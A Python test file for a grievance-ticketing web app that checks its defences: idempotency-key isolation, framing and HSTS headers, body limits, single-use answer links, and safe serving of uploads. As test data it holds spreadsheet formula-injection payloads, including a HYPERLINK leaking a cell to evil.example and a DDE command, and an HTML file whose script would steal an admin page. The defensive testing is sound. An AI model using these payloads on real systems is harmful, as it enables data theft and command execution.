"""The web app's doors as an attacker tries them (issue 15): idempotency keys that belong to
their caller, the status lookup kept out of URLs, headers against framing and downgrades,
request-body limits, one-resolution answer links, formula cells in exports, and downloads
that never render a citizen's file as a page."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from admin_app import create_app
from tests.helpers import FakeClock, client_for, csrf_token, file, make_jobs, officer_by_email, outbox_file, sign_in
from tests.test_api import error_of, token_for
from ticketing.cases.attachments import attach_file
from ticketing.cases.moves import acknowledge, resolve
from ticketing.cases.records import CITIZEN, Actor
from ticketing.citizen import answer_resolution, grievance_for_link
from ticketing.reporting.tables import HEADER_ROW, Document, Table, to_csv, to_xlsx
from ticketing.store.case_models import Complainant, Grievance
from ticketing.store.db import Store
from ticketing.store.models import Officer

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)

# --- idempotency keys belong to their caller ---


def post_grievance(client: Any, token: dict[str, str], **fields: Any) -> Any:
    body = {"project_code": "KKR-01", "details": "Told at the site office: the culvert floods our yard."} | fields
    return client.post("/api/v1/grievances", json=body, headers=token)


def test_another_callers_idempotency_key_never_returns_their_case(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    gender_desk = token_for(demo, clock, "gender.kkr@grm.example")
    told = "A worker at the camp follows my daughter home every evening."
    first = post_grievance(
        client, gender_desk, details=told, category_code="gender.harassment", idempotency_key="visit-2026-01-05"
    )
    assert first.status_code == 201
    contractor = token_for(demo, clock, "contractor.kkr@grm.example")
    second = post_grievance(
        client, contractor, name="Mohan Shah", phone="9841000999", idempotency_key="visit-2026-01-05"
    )
    assert second.status_code == 201
    answer = second.get_json()
    assert answer["reference"] != first.get_json()["reference"]
    assert told not in second.get_data(as_text=True) and answer["details"].startswith("Told at the site office")
    with demo.sessions() as session:
        assert session.query(Grievance).count() == 2


def test_a_replayed_key_returns_the_callers_case_and_writes_no_contact_details(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    manager = token_for(demo, clock, "manager.kkr@grm.example")
    person = {"name": "Hari Magar", "phone": "9841000123", "email": "hari@example.org"}
    first = post_grievance(client, manager, idempotency_key="desk-17", **person)
    replay = post_grievance(
        client, manager, idempotency_key="desk-17", name="Someone Else", phone="9841000123", email="x@example.org"
    )
    assert replay.get_json()["reference"] == first.get_json()["reference"]
    with demo.sessions() as session:
        complainant = session.scalars(select(Complainant)).one()
        assert (complainant.name, complainant.email) == ("Hari Magar", "hari@example.org")


def test_an_overlong_idempotency_key_is_refused_politely(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    manager = token_for(demo, clock, "manager.kkr@grm.example")
    refused = post_grievance(client, manager, name="Hari Magar", phone="9841000123", idempotency_key="k" * 101)
    assert refused.status_code == 422 and error_of(refused)["field"] == "idempotency_key"


# --- a resolution link answers its own resolution only ---


def links_sent(store: Store, reference: str) -> list[str]:
    """The answer tokens of the resolution messages the citizen got, oldest first."""
    sent = [json.loads(line) for line in outbox_file(store).read_text().splitlines()]
    bodies = [m["body"] for m in sent if m["subject"] == f"Grievance {reference} resolved - are you satisfied?"]
    return [found.group(1) for body in bodies if (found := re.search(r"/chat\?resume=(\S+)", body))]


def resolve_as(store: Store, clock: FakeClock, grievance_id: int, email: str, resolution: str) -> None:
    officer = Actor.officer(officer_by_email(store, email))
    with store.sessions.begin() as session:
        acknowledge(session, clock, grievance_id, officer)
        resolve(session, clock, grievance_id, officer, resolution)


def test_a_link_from_an_earlier_resolution_does_not_answer_a_later_one(demo: Store, clock: FakeClock) -> None:
    jobs = make_jobs(demo, clock)
    grievance = file(demo, clock)
    resolve_as(demo, clock, grievance.id, "site.kkr@grm.example", "Water is sprayed twice a day now.")
    jobs.plan()
    jobs.dispatch()
    clock.advance(hours=2)
    with demo.sessions.begin() as session:
        answer_resolution(session, clock, grievance.id, accepted=False, reason="Still dusty at night.")
    clock.advance(hours=2)
    resolve_as(demo, clock, grievance.id, "piu.kkr@grm.example", "A water truck now passes every evening too.")
    jobs.plan()
    jobs.dispatch()
    first, second = links_sent(demo, grievance.reference)
    with demo.sessions() as session:
        assert grievance_for_link(session, first, clock.now()) is None
        latest = grievance_for_link(session, second, clock.now())
        assert latest is not None and latest.awaits_answer and (latest.resolution or "").startswith("A water truck")


# --- formula cells in CSV and Excel files ---

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_tables_neutralise_cells_a_spreadsheet_would_run() -> None:
    texts = [*FORMULAS, "\tTAB", "\rCR", "plain words", "GR-ABCD-EFGH"]
    document = Document(
        "=title", "+subtitle", [Table("Sheet", "@table", ("=header",), [(t,) for t in texts] + [(-5,)])]
    )
    rows = list(csv.reader(io.StringIO(to_csv(document).decode("utf-8-sig"))))
    assert rows[0] == ["'=header"]
    assert [row[0] for row in rows[1:]] == [*("'" + t for t in texts[:6]), "plain words", "GR-ABCD-EFGH", "-5"]
    sheet = load_workbook(io.BytesIO(to_xlsx(document))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=1)]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells] == [
        "'=title",
        "'+subtitle",
        None,
        "'=header",
        *("'" + t.replace("\r", "\n") for t in texts[:6]),  # XML reads a carriage return as a line feed
        "plain words",
        "GR-ABCD-EFGH",
        -5,
    ]


def test_the_backoffices_exports_neutralise_an_officers_formula_name(demo: Store, clock: FakeClock) -> None:
    case = file(demo, clock)
    with demo.sessions.begin() as session:
        officer = session.scalars(select(Officer).where(Officer.email == "site.kkr@grm.example")).one()
        officer.name = FORMULAS[0]
        session.get_one(Grievance, case.id).assignee_id = officer.id
    admin = client_for(demo)
    assert sign_in(admin, "admin@grm.example") == 302
    exported = admin.get("/admin/grievance/export/csv/").get_data(as_text=True)
    [row] = [row for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if case.reference in row]
    assert "'" + FORMULAS[0] in row and FORMULAS[0] not in row
    sheet = load_workbook(io.BytesIO(admin.get("/admin/grievance/export/xlsx/").data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + FORMULAS[0], "s")]


def test_the_audit_log_exports_to_excel(demo: Store, clock: FakeClock) -> None:
    file(demo, clock)
    admin = client_for(demo)
    assert sign_in(admin, "admin@grm.example") == 302
    exported = admin.get("/admin/audit/export/xlsx/")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data)).active
    assert sheet is not None and [cell.value for cell in sheet[HEADER_ROW]][:2] == ["At", "Actor Kind"]


# --- the status lookup keeps the phone out of the URL ---


def test_the_status_lookup_is_a_post_and_a_get_answers_no_data(demo: Store, clock: FakeClock) -> None:
    case = file(demo, clock)
    client = client_for(demo)
    found = client.post("/api/v1/status", json={"reference": case.reference, "phone": "9841234567"})
    assert found.status_code == 200 and found.get_json()["reference"] == case.reference
    in_the_url = client.get(f"/api/v1/status?reference={case.reference}&phone=9841234567")
    assert in_the_url.status_code == 405 and error_of(in_the_url)["code"] == "method_not_allowed"
    assert case.reference not in in_the_url.get_data(as_text=True)
    for body in ({"reference": case.reference}, {"reference": 7, "phone": "9841234567"}, ["x"]):
        refused = client.post("/api/v1/status", json=body)
        assert refused.status_code == 422, body
    document = client.get("/api/v1/openapi.json").get_json()
    assert set(document["paths"]["/api/v1/status"]) == {"post"}
    assert error_of(client.get("/api/v1/no-such-thing"))["code"] == "not_found"  # the API answers JSON only
    assert client.get("/no-such-page").mimetype == "text/html"


# --- headers: no framing, HTTPS kept, small bodies ---


def test_no_page_of_the_app_can_be_framed(demo: Store) -> None:
    client = client_for(demo)
    assert sign_in(client, "admin@grm.example") == 302
    for path in ("/login", "/admin/", "/admin/grievance/", "/chat/KKR-01", "/api/v1/openapi.json", "/qr/KKR-01.png"):
        response = client.get(path)
        assert response.headers["X-Frame-Options"] == "DENY", path
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"], path
        assert "Strict-Transport-Security" not in response.headers  # plain HTTP on a development machine


def test_https_is_remembered_by_the_browser(demo: Store) -> None:
    served = create_app({"GRM_STORE": demo, "SECRET_KEY": "test", "GRM_PUBLIC_URL": "https://grm.example.org"})
    assert served.test_client().get("/login").headers["Strict-Transport-Security"].startswith("max-age=")
    secure = client_for(demo).get("/login", base_url="https://grm.example.org")
    assert "max-age=" in secure.headers["Strict-Transport-Security"]


def test_a_large_body_is_refused_before_it_is_read_except_where_files_go(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    manager = token_for(demo, clock, "manager.kkr@grm.example")
    refused = post_grievance(client, manager, name="Hari Magar", phone="9841000123", address="x" * 2_000_000)
    assert refused.status_code == 413 and error_of(refused)["code"] == "request_entity_too_large"
    assert client.post("/login", data={"email": "x" * 2_000_000}).status_code == 413
    case = file(demo, clock)
    site = client_for(demo)
    assert sign_in(site, "site.kkr@grm.example") == 302
    token = csrf_token(site, f"/admin/grievance/case/{case.id}")
    photo = PNG + bytes(3_000_000)
    attached = site.post(
        f"/admin/grievance/case/{case.id}/attach",
        data={"csrf_token": token, "file": (io.BytesIO(photo), "site.png")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert "File attached." in attached.get_data(as_text=True)


# --- a citizen's file never renders as a page ---


def test_files_are_saved_under_made_up_names_and_only_media_are_shown(demo: Store, clock: FakeClock) -> None:
    case = file(demo, clock)
    page = b"<html><script>fetch('/admin/officer/').then(r => r.text()).then(steal)</script></html>\n"
    sent = [("<script>.png", PNG), ("report.html", page), ("letter.pdf", b"%PDF-1.4\n%%EOF\n")]
    with demo.sessions.begin() as session:
        kept = [attach_file(session, clock, demo.settings.files, case.id, CITIZEN, *f) for f in sent]
        session.flush()
        ids = [attachment.id for attachment in kept]
    site = client_for(demo)
    assert sign_in(site, "site.kkr@grm.example") == 302
    photo, text, pdf = (site.get(f"/admin/grievance/case/{case.id}/file/{number}") for number in ids)
    assert (
        photo.mimetype == "image/png"
        and photo.headers["Content-Disposition"] == f"inline; filename={case.reference}-1.png"
    )
    assert text.mimetype == "text/plain" and text.data == page
    assert text.headers["Content-Disposition"] == f"attachment; filename={case.reference}-2.txt"
    assert pdf.headers["Content-Disposition"] == f"attachment; filename={case.reference}-3.pdf"
    for response in (photo, text, pdf):
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response.headers["Content-Security-Policy"]
    saved = site.get(f"/admin/grievance/case/{case.id}/file/{ids[0]}?download=1")
    assert saved.headers["Content-Disposition"] == f"attachment; filename={case.reference}-1.png"


# --- what the property-based run found, and its kin (tests/test_api_properties.py) ---


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"details": "Dust."}, "name"),  # a required field missing (without project_code, the place routes it)
        ({"project_code": "KKR-01", "details": 123}, "details"),  # a number where text goes
        ({"project_code": ["KKR-01"], "details": "Dust."}, "project_code"),
        ({"project_code": "KKR-01", "details": "Dust.", "category_code": 5}, "category_code"),
        ({"project_code": "KKR-01", "details": "Dust.", "ward": True}, "ward"),
        (
            {"project_code": "KKR-01", "details": "Dust.", "name": "A", "phone": "9841234567", "language": "x" * 50},
            "language",
        ),
    ],
)
def test_a_filing_of_the_wrong_shape_gets_422_naming_the_field(
    demo: Store, clock: FakeClock, body: dict[str, Any], field: str
) -> None:
    refused = client_for(demo).post(
        "/api/v1/grievances", json=body, headers=token_for(demo, clock, "admin@grm.example")
    )
    assert refused.status_code == 422 and error_of(refused)["field"] == field


def test_text_no_store_can_keep_is_made_storable(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    admin = token_for(demo, clock, "admin@grm.example")
    # A NUL and a lone surrogate, as JSON may carry them; PostgreSQL and UTF-8 refuse both.
    body = '{"project_code": "KKR-01", "details": "Dust\\u0000 \\ud800here", "name": "Hari \\udfff", "phone": "9841234567"}'
    filed = client.post("/api/v1/grievances", data=body, content_type="application/json", headers=admin)
    assert filed.status_code == 201 and filed.get_json()["details"] == "Dust \ufffdhere"
    reference = filed.get_json()["reference"]
    noted = client.post(
        f"/api/v1/tickets/{reference}/note",
        data='{"text": "\\ud83d seen"}',
        content_type="application/json",
        headers=admin,
    )
    assert noted.status_code == 200
    for path in ("/api/v1/tickets?q=dust%00", "/api/v1/tickets?page=99999999999999999999", "/api/v1/tickets/GR-%00"):
        assert client.get(path, headers=admin).status_code in (200, 404, 422), path
    assert (
        client.post(f"/api/v1/tickets/{reference}/assign", json={"officer_id": "²"}, headers=admin).status_code == 422
    )
    with demo.sessions() as session:
        assert session.scalars(select(Complainant.name)).one() == "Hari \ufffd"


def test_the_backoffice_takes_the_time_from_the_apps_clock(demo: Store, clock: FakeClock) -> None:
    grievance = file(demo, clock)
    client = create_app({"GRM_STORE": demo, "SECRET_KEY": "test", "GRM_CLOCK": clock}).test_client()
    assert sign_in(client, "admin@grm.example") == 302
    assert "due in 24 h" in client.get(f"/admin/grievance/case/{grievance.id}").get_data(as_text=True)
    clock.advance(hours=30)
    assert "overdue by 6 h" in client.get(f"/admin/grievance/case/{grievance.id}").get_data(as_text=True)
